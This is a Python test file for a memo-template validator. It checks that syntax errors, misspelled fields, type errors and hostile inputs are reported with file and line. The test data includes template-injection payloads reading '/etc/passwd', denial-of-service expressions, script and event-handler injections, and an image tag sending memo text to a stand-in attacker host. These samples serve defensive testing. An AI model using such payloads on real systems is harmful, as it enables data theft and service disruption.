"""`validate_template`: syntax errors with file and line, undeclared names, bad Word files."""

from __future__ import annotations

import contextlib
import shutil
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import docx
import docx.document
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from briefgen.render import BUILTIN_TEMPLATE_IDS, TemplateLibrary, validate_template
from briefgen.render.templates.validate import TemplateProblem


@pytest.fixture
def copy(tmp_path: Path) -> Path:
    folder = tmp_path / "copy"
    shutil.copytree(TemplateLibrary().builtin_dir / "information-memo", folder)
    return folder


@pytest.mark.parametrize("template_id", BUILTIN_TEMPLATE_IDS)
def test_every_builtin_is_valid(template_id: str) -> None:
    assert validate_template(TemplateLibrary().builtin_dir / template_id) == []


def test_a_syntax_error_is_reported_with_file_and_line(copy: Path) -> None:
    html = copy / "memo.html"
    lines = html.read_text(encoding="utf-8").splitlines()
    lines[9] = "{% for x in %}"
    html.write_text("\n".join(lines), encoding="utf-8")
    problems = validate_template(copy)
    assert [str(p) for p in problems] == [
        f"{html}:10: syntax error: Expected an expression, got 'end of statement block'"]


def test_names_and_fields_the_manifest_does_not_declare_are_reported(copy: Path) -> None:
    html = copy / "memo.html"
    html.write_text("<p>{{ fields.budget }}</p>\n<p>{{ secret_sauce }}</p>\n"
                    "<p>{{ fields['to'] }}</p>", encoding="utf-8")
    messages = [str(p) for p in validate_template(copy)]
    assert f"{html}:1: unknown field 'fields.budget': the manifest declares no field " \
           "'budget'" in messages
    assert f"{html}:2: unknown field 'secret_sauce'" in messages
    assert len(messages) == 2


def test_forbidden_names_in_the_word_file_are_reported(copy: Path) -> None:
    document = docx.Document(str(copy / "memo.docx"))
    document.add_paragraph("{{ open('/etc/passwd') }}")
    document.save(str(copy / "memo.docx"))
    problems = validate_template(copy)
    assert len(problems) == 1
    assert problems[0].file == f"{copy}/memo.docx"
    assert problems[0].line is None
    body = [p for p in document.paragraphs]
    assert problems[0].where == f"body, paragraph {len(body)}"
    assert problems[0].message == (
        "refused because it uses the forbidden name 'open' (in \u201c{{ open('/etc/passwd') }}"
        "\u201d)")


def test_a_word_file_that_is_not_a_docx_is_reported(copy: Path) -> None:
    (copy / "memo.docx").write_text("plain text", encoding="utf-8")
    assert validate_template(copy) == [
        TemplateProblem(f"{copy}/memo.docx", None, "the Word template is not a valid .docx file")
    ]


def test_missing_files_and_bad_manifests_are_reported(copy: Path, tmp_path: Path) -> None:
    (copy / "memo.html").unlink()
    assert [p.message for p in validate_template(copy)] == ["the HTML template file is missing"]
    (copy / "template.toml").write_text("id = 'Bad Id'\nname = 'x'\n", encoding="utf-8")
    problem = validate_template(copy / "template.toml")[0]
    assert problem.file == f"{copy}/template.toml"
    assert "lower-case" in problem.message
    assert validate_template(tmp_path / "nothing")[0].message == "no such file or folder"


def test_a_package_file_is_validated_too(tmp_path: Path) -> None:
    library = TemplateLibrary(user_dir=tmp_path / "user")
    library.export_package("decision-memo", tmp_path / "d.brieftemplate")
    assert validate_template(tmp_path / "d.brieftemplate") == []
    (tmp_path / "x.brieftemplate").write_bytes(b"junk")
    assert "not a template package" in validate_template(tmp_path / "x.brieftemplate")[0].message


def test_the_template_guide_documents_every_name_a_layout_can_use() -> None:
    from briefgen.render.context import CONTEXT_NAMES
    from briefgen.resources import builtin_templates_dir

    guide = (builtin_templates_dir() / "README.md").read_text(encoding="utf-8")
    assert [n for n in sorted(CONTEXT_NAMES) if f"`{n}`" not in guide] == []


@pytest.mark.parametrize(
    ("body", "message"),
    [
        ("{{ 9**(9**9) }}", "raises a number to a power"),
        ("{{ 2.0**99999 }}", "constant expression fails"),
        ("{{ '%0999999999d'|format(1) }}", "width or precision over 1,000"),
        ("{{ 'a'*10**9 }}", "longer than 1,000,000"),
        ("{% for i in range(100000) %}{% for j in range(100000) %}x{% endfor %}{% endfor %}",
         "range of 100,000 numbers"),
        ("{{ 'ab'*10**8 }}", "longer than 1,000,000"),
        ("{{ 1 // 0 }}", "constant expression fails"),
    ],
)
def test_a_constant_a_render_would_refuse_is_refused_at_once_with_its_line(
        tmp_path: Path, body: str, message: str) -> None:
    from support.hostile_templates import template_folder

    folder = template_folder(tmp_path, "hostile", body=body)
    started = time.monotonic()
    problems = validate_template(folder)
    assert time.monotonic() - started < 5
    assert problems
    assert all(p.file == f"{folder}/memo.html" and p.line for p in problems)
    assert message in problems[0].message


def test_a_word_file_of_unclosed_tags_is_refused_in_bounded_time(tmp_path: Path) -> None:
    from support.hostile_templates import in_document, paragraph, template_folder

    folder = template_folder(tmp_path, "tags",
                             docx_edit=in_document(paragraph("{{p x " * 8000)))
    started = time.monotonic()
    problems = validate_template(folder)
    assert time.monotonic() - started < 5
    assert [p.message[:60] for p in problems] == [
        "the template has a tag that is not closed before the next on"]


@settings(max_examples=40, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(pieces=st.lists(st.sampled_from(["{{", "}}", "{%", "%}", "{#", "#}", "p ", "x",
                                        "</w:t><w:t>", " "]), max_size=400))
def test_any_run_of_tag_marks_is_checked_in_linear_time(pieces: list[str]) -> None:
    from briefgen.errors import TemplateError
    from briefgen.render.docx_writer import check_tag_spans

    xml = "".join(pieces) * 50
    started = time.monotonic()
    with contextlib.suppress(TemplateError):
        check_tag_spans(xml, "word/document.xml")
    assert time.monotonic() - started < 1


def test_a_manifest_of_20000_fields_is_refused_at_once(tmp_path: Path) -> None:
    from support.hostile_templates import template_folder

    fields = "".join(f'\n[[fields]]\nname = "f{i}"\n' for i in range(20_000))
    folder = template_folder(tmp_path, "fields", manifest_extra=fields)
    started = time.monotonic()
    problems = validate_template(folder)
    assert time.monotonic() - started < 2
    assert "larger than 256,000 bytes" in problems[0].message


@pytest.mark.parametrize(
    ("title", "message"),
    [
        (b"{{ self }}", "forbidden name 'self'"),
        (b"{{ lipsum() }}", "forbidden name 'lipsum'"),
        (b"{{ nosuchname }}", "unknown field 'nosuchname'"),
    ],
)
def test_core_properties_are_checked_like_the_body(tmp_path: Path, title: bytes,
                                                   message: str) -> None:
    from support.hostile_templates import core_title, template_folder

    folder = template_folder(tmp_path, "props", docx_edit=core_title(title))
    problems = validate_template(folder)
    assert len(problems) == 1
    assert (problems[0].file, problems[0].where) == (f"{folder}/memo.docx",
                                                     "document properties (title)")
    assert message in problems[0].message


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        ("<script>alert(1)</script>", "it holds a <script> element"),
        ('<img src="http://evil.example/x?{{ summary.text }}">', "it loads 'src'"),
        ('<p onclick="steal()">x</p>', "the event handler 'onclick'"),
        ('<a href="javascript:steal()">x</a>', "javascript: address"),
        ('<link rel="stylesheet" href="https://cdn.example/x.css">', "links a stylesheet"),
        ("<style>p { background: url(http://evil.example/p.png) }</style>", "url()"),
        ('<meta http-equiv="refresh" content="0;url=http://evil.example">', "refresh"),
        ("{{ summary.text|safe }}", "the filter 'safe'"),
        ("{% autoescape false %}{{ summary.text }}{% endautoescape %}", "autoescaping off"),
    ],
)
def test_scripts_external_references_and_unescaped_text_are_refused_with_the_line(
        tmp_path: Path, body: str, reason: str) -> None:
    from support.hostile_templates import template_folder

    folder = template_folder(tmp_path, "active", body="\n" + body)
    lines = (folder / "memo.html").read_text(encoding="utf-8").splitlines()
    line = next(i for i, text in enumerate(lines, 1) if body.split("\n")[0] in text)
    problems = validate_template(folder)
    assert problems
    assert problems[0].file == f"{folder}/memo.html"
    assert problems[0].line == line
    assert reason in problems[0].message


def test_a_word_file_with_an_external_image_or_attached_template_is_refused(
        tmp_path: Path) -> None:
    from support.hostile_templates import template_folder

    def external(name: str, data: bytes) -> bytes:
        if name == "word/_rels/document.xml.rels":
            return data.replace(b"</Relationships>", (
                b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/'
                b'officeDocument/2006/relationships/image" Target="http://evil.example/p.png"'
                b' TargetMode="External"/></Relationships>'))
        return data

    folder = template_folder(tmp_path, "ext", docx_edit=external)
    problems = validate_template(folder)
    assert [p.message for p in problems] == [
        "refused because it refers to the external image 'http://evil.example/p.png': a memo "
        "holds no external reference"]


# A script for a fresh interpreter: validate and import each package given, then print
# the longest time one took; its parent reads the child's peak memory.
_MEASURE = """
import sys, time, tempfile
from pathlib import Path
from briefgen.errors import TemplateError
from briefgen.render import TemplateLibrary, validate_template
worst = 0.0
for path in sys.argv[1:]:
    started = time.monotonic()
    problems = validate_template(Path(path))
    try:
        TemplateLibrary(user_dir=Path(tempfile.mkdtemp())).import_package(Path(path))
    except TemplateError:
        pass
    worst = max(worst, time.monotonic() - started)
# VmHWM: this program's own peak (ru_maxrss would carry over the parent's from fork).
status = Path("/proc/self/status")
if status.exists():
    peak = next(int(l.split()[1]) for l in status.read_text().splitlines()
                if l.startswith("VmHWM:"))
else:
    import resource
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print(worst, peak)
"""


def test_validate_and_import_of_every_hostile_example_stay_within_5_s_and_300_mb(
        tmp_path: Path) -> None:
    from support.hostile_templates import (
        core_title,
        in_document,
        package,
        paragraph,
        template_folder,
    )

    bodies = ["{{ 9**(9**9) }}", "{{ 2.0**99999 }}", "{{ '%0999999999d'|format(1) }}",
              "{{ 'a'*10**9 }}", "{{ 'ab'*10**8 }}",
              "{% for i in range(100000) %}{% for j in range(100000) %}x{% endfor %}"
              "{% endfor %}"]
    folders = [template_folder(tmp_path / "src", f"b{i}", body=b)
               for i, b in enumerate(bodies)]
    folders.append(template_folder(tmp_path / "src", "tags",
                                   docx_edit=in_document(paragraph("{{p x " * 8000))))
    folders.append(template_folder(
        tmp_path / "src", "fields",
        manifest_extra="".join(f'\n[[fields]]\nname = "f{i}"\n' for i in range(20_000))))
    folders.append(template_folder(tmp_path / "src", "props", docx_edit=core_title(
        b"{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}")))
    paths = [str(package(f, tmp_path / f"{f.name}.brieftemplate")) for f in folders]
    result = subprocess.run([sys.executable, "-c", _MEASURE, *paths], capture_output=True,
                            text=True, timeout=120, check=True)
    worst_seconds, peak_kb = result.stdout.split()
    assert float(worst_seconds) < 5
    assert int(peak_kb) < 300_000  # the peak resident memory of the whole process


def test_footnotes_are_checked_like_the_body(tmp_path: Path) -> None:
    from support.hostile_templates import FOOTNOTES_XML, add_entry, template_folder, with_footnote

    folder = template_folder(tmp_path, "notes", docx_edit=with_footnote("{{ self }}"))
    add_entry(folder / "memo.docx", "word/footnotes.xml",
              FOOTNOTES_XML.format(text="{{ self }}").encode())
    problems = validate_template(folder)
    assert [(p.file, p.where.split(",")[0], p.message[:45]) for p in problems] == [
        (f"{folder}/memo.docx", "footnotes",
         "refused because it uses the forbidden name 's")]


def _word_template(tmp_path: Path, build: Callable[[docx.document.Document], None]) -> Path:
    """A copy of the information memo whose Word file ``build`` changed (with python-docx)."""
    folder = tmp_path / "word"
    shutil.copytree(TemplateLibrary().builtin_dir / "information-memo", folder)
    document = docx.Document(str(folder / "memo.docx"))
    build(document)
    document.save(str(folder / "memo.docx"))
    return folder


def test_word_problems_are_located_as_word_shows_them(tmp_path: Path) -> None:
    def build(document: docx.document.Document) -> None:
        header = document.sections[0].header
        header.add_paragraph("Re: {{ sumary.text }}")
        table = document.add_table(rows=2, cols=2)
        table.cell(1, 0).text = '{{ summary["text"] + 1 }}'
        split = document.add_paragraph("Dear ")
        for piece in ("{{ fie", "lds.sub", "jct }}"):  # one tag over three runs
            split.add_run(piece)
        footer = document.sections[0].footer
        footer.add_paragraph("Page")
        footer.add_paragraph("{{ fields.classificaton }}")

    folder = _word_template(tmp_path, build)
    tables = len(docx.Document(str(folder / "memo.docx")).tables)
    body = len(docx.Document(str(folder / "memo.docx")).paragraphs)
    header = len(docx.Document(str(folder / "memo.docx")).sections[0].header.paragraphs)
    footer = len(docx.Document(str(folder / "memo.docx")).sections[0].footer.paragraphs)
    label = f"{folder}/memo.docx"
    assert sorted(str(p) for p in validate_template(folder)) == sorted([
        f"{label}, header of section 1, paragraph {header}: unknown field 'sumary' (did you "
        "mean 'summary'?) (in \u201cRe: {{ sumary.text }}\u201d)",
        f"{label}, body, table {tables}, row 2, cell 1: type error: 'summary[\"text\"] + 1' "
        "adds text and a number, which fails in every memo (in \u201c{{ summary[\"text\"] + 1 "
        "}}\u201d)",
        f"{label}, body, paragraph {body}: unknown field 'fields.subjct': the manifest "
        "declares no field 'subjct' (did you mean 'fields.subject'?) (in \u201cDear {{ "
        "fields.subjct }}\u201d)",
        f"{label}, footer of section 1, paragraph {footer}: unknown field 'fields.classificaton': "
        "the manifest declares no field 'classificaton' (did you mean "
        "'fields.classification'?) (in \u201c{{ fields.classificaton }}\u201d)",
    ])
    assert not any(":" in p.where or p.line for p in validate_template(folder))


def test_a_bare_field_name_suggests_its_fields_form(copy: Path) -> None:
    (copy / "memo.html").write_text("<p>{{ subject }}</p>", encoding="utf-8")
    assert [p.message for p in validate_template(copy)] == [
        "unknown field 'subject' (did you mean 'fields.subject'?)"]


@pytest.mark.parametrize(("expression", "message"), [
    ('summary["text"] + 1', "'summary[\"text\"] + 1' adds text and a number"),
    ("fields.to - 2", "'fields.to - 2' subtracts text and a number"),
    ("key_points + 'x'", "'key_points + \"x\"' adds a list and text"),
])
def test_type_errors_it_can_see_are_reported_before_rendering(
        copy: Path, expression: str, message: str) -> None:
    (copy / "memo.html").write_text(f"<p>\n{{{{ {expression} }}}}</p>", encoding="utf-8")
    assert [str(p) for p in validate_template(copy)] == [
        f"{copy}/memo.html:2: type error: {message}, which fails in every memo"]


@pytest.mark.parametrize("expression", [
    "summary.text ~ 1", 'summary.text + "!"', "key_points|length + 1", "fields.to % 3",
    "key_points + people", "portion_marks + 1", "loop_value + 1", "summary + 1",
    "marking + 1"])
def test_arithmetic_that_can_work_is_not_reported(copy: Path, expression: str) -> None:
    body = ("{% set loop_value = 1 %}{% set portion_marks = 0 %}{% set summary = 2 %}"
            "{% for marking in [1, 2] %}{{ marking + 1 }}{% endfor %}")
    (copy / "memo.html").write_text(f"<p>{body}{{{{ {expression} }}}}</p>", encoding="utf-8")
    assert validate_template(copy) == []


def test_a_former_mail_merge_document_is_one_warning_not_an_error(tmp_path: Path) -> None:
    from support.hostile_templates import (
        SETTINGS_RELS,
        add_entry,
        mail_merge_main_document,
        template_folder,
    )

    folder = template_folder(tmp_path, "merge", docx_edit=mail_merge_main_document)
    add_entry(folder / "memo.docx", "word/_rels/settings.xml.rels", SETTINGS_RELS)
    problems = validate_template(folder)
    assert [(p.warning, str(p)) for p in problems] == [(True, (
        f"{folder}/memo.docx: warning: its mail-merge settings (data source "
        "'file:///C:/Office/contacts.xlsx') are removed from every memo it renders, so Word "
        "never asks for the data source"))]
    library = TemplateLibrary(user_dir=tmp_path / "user")
    imported = library.import_package(folder)
    assert imported.id == "merge"


TEXT_BOX_RUN = (
    '<w:r xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:mc='
    '"http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:wps="http://schemas.'
    'microsoft.com/office/word/2010/wordprocessingShape" xmlns:v="urn:schemas-microsoft-com:'
    'vml"><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><wps:txbx><w:txbxContent>'
    "<w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:txbxContent></wps:txbx></w:drawing></mc:Choice>"
    "<mc:Fallback><w:pict><v:textbox><w:txbxContent><w:p><w:r><w:t>{text}</w:t></w:r></w:p>"
    "</w:txbxContent></v:textbox></w:pict></mc:Fallback></mc:AlternateContent></w:r>")


def test_a_text_box_in_a_first_page_header_is_named_once(tmp_path: Path) -> None:
    from lxml import etree

    def build(document: docx.document.Document) -> None:
        section = document.sections[0]
        section.different_first_page_header_footer = True
        header = section.first_page_header
        header.paragraphs[0].text = "Office of the Harbour Master"
        holder = header.add_paragraph("Reference: ")
        holder._p.append(etree.fromstring(TEXT_BOX_RUN.format(text="{{ fields.refrence }}")))

    folder = _word_template(tmp_path, build)
    assert [(p.where, p.message) for p in validate_template(folder)] == [(
        "first-page header of section 1, text box 1",
        "unknown field 'fields.refrence': the manifest declares no field 'refrence' (in "
        "\u201c{{ fields.refrence }}\u201d)")]
